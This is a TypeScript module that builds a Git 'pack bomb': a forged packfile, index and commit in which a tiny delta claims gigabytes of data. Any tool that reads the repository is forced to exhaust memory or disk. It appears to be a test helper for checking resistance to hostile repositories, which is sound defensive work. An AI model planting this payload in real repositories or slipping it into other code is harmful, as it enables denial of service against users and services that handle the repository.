import { createHash } from 'node:crypto'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { crc32, deflateSync } from 'node:zlib'

const BASE_BYTES = 0xff_ff_ff
const TREE = '22'.repeat(20)

/**
 * Gives a repository a commit whose tree is a delta of some hundred bytes that says that it has gigabytes. Git does not
 * compare what it reads with its name.
 */
export function putPackBomb(gitFolder: string, gigabytes: number): void {
  const copies = Math.ceil((gigabytes * 1024 ** 3) / BASE_BYTES)
  const base = Buffer.concat([header(2, BASE_BYTES), deflateSync(Buffer.alloc(BASE_BYTES))])
  const copyAll = Buffer.from([0x80 | 0x10 | 0x20 | 0x40, 0xff, 0xff, 0xff])
  const delta = Buffer.concat([
    size(BASE_BYTES),
    size(BASE_BYTES * copies),
    ...Array.from({ length: copies }, () => copyAll),
  ])
  const bomb = Buffer.concat([header(6, delta.length), offset(base.length), deflateSync(delta)])
  const body = Buffer.concat([Buffer.from('PACK'), numbers(2, 2), base, bomb])
  const pack = Buffer.concat([body, sha1(body)])
  const names = ['11'.repeat(20), TREE].map((name) => Buffer.from(name, 'hex'))
  const fan = Array.from({ length: 256 }, (_, at) => names.filter(([first = 0]) => first <= at).length)
  const index = Buffer.concat([
    Buffer.from([0xff, ...Buffer.from('tOc')]),
    numbers(2, ...fan),
    ...names,
    numbers(crc32(base), crc32(bomb), 12, 12 + base.length),
    pack.subarray(-20),
  ])
  const folder = join(gitFolder, 'objects/pack')
  mkdirSync(folder, { recursive: true })
  const name = `pack-${'a'.repeat(40)}`
  writeFileSync(join(folder, `${name}.pack`), pack)
  writeFileSync(join(folder, `${name}.idx`), Buffer.concat([index, sha1(index)]))
  const text = `tree ${TREE}\nauthor a <a@b> 1 +0000\ncommitter a <a@b> 1 +0000\n\nm\n`
  const commit = Buffer.from(`commit ${text.length}\0${text}`)
  const id = sha1(commit).toString('hex')
  mkdirSync(join(gitFolder, 'objects', id.slice(0, 2)), { recursive: true })
  writeFileSync(join(gitFolder, 'objects', id.slice(0, 2), id.slice(2)), deflateSync(commit))
  writeFileSync(join(gitFolder, 'HEAD'), `${id}\n`)
}

function sha1(bytes: Buffer): Buffer {
  return createHash('sha1').update(bytes).digest()
}

function numbers(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(4 * values.length)
  for (const [at, value] of values.entries()) bytes.writeUInt32BE(value, 4 * at)
  return bytes
}

/** Seven bits a byte, the lowest first. */
function size(value: number): Buffer {
  const bytes: number[] = []
  let left = value
  for (; left > 127; left = Math.floor(left / 128)) bytes.push((left % 128) | 0x80)
  return Buffer.from([...bytes, left])
}

/** The kind of an object of a pack and its size: the first byte has only four bits of it. */
function header(kind: number, bytes: number): Buffer {
  const rest = Math.floor(bytes / 16)
  const first = (kind << 4) | (bytes % 16)
  return rest === 0 ? Buffer.from([first]) : Buffer.concat([Buffer.from([first | 0x80]), size(rest)])
}

/** How far back the base of a delta is. */
function offset(distance: number): Buffer {
  const bytes = [distance % 128]
  for (let left = Math.floor(distance / 128); left > 0; left = Math.floor(left / 128)) {
    left--
    bytes.unshift((left % 128) | 0x80)
  }
  return Buffer.from(bytes)
}
